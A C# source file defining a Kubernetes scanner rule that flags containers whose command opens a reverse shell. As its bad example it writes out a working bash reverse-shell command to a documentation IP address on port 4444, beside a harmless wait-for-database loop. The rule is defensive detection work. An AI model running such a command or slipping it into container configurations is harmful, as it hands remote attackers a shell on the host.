using ConfigOps.Kubernetes.Resources;
using ConfigOps.Operations.Findings;
using ConfigOps.Operations.Security.Facts;

namespace ConfigOps.Operations.Security.Rules.Workloads;

/// <summary>No container hands a shell to the network.</summary>
internal sealed class ReverseShellRule : ContainerRule
{
    public override RuleInfo Info { get; } = new()
    {
        Id = "workload/reverse-shell",
        Title = "No container hands a shell to the network",
        Severity = Severity.Critical,
        Rationale = "The command connects a shell with an address elsewhere: it looks like the work of an intruder.",
        Remediation = "Remove the command, and look for who wrote it.",
        Controls = ["mitre:T1059", "soc2:CC7.2"],
    };

    public override RuleExample Example => RuleExample.OfContainer(
        """
        command: [bash, -c, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
        """,
        """
        command: [bash, -c, "until (echo > /dev/tcp/postgres/5432) 2>/dev/null; do sleep 1; done"]
        """);

    protected override void Inspect(ScannedContainer container, ScannedResource resource, ScanContext scan, FindingSink sink)
    {
        if (CommandLines.OpensReverseShell(container.CommandLine)) sink.Report($"container \"{container.Name}\" hands a shell to the network", container.Path[container.Node["command"] is null ? "args" : "command"]);
    }
}
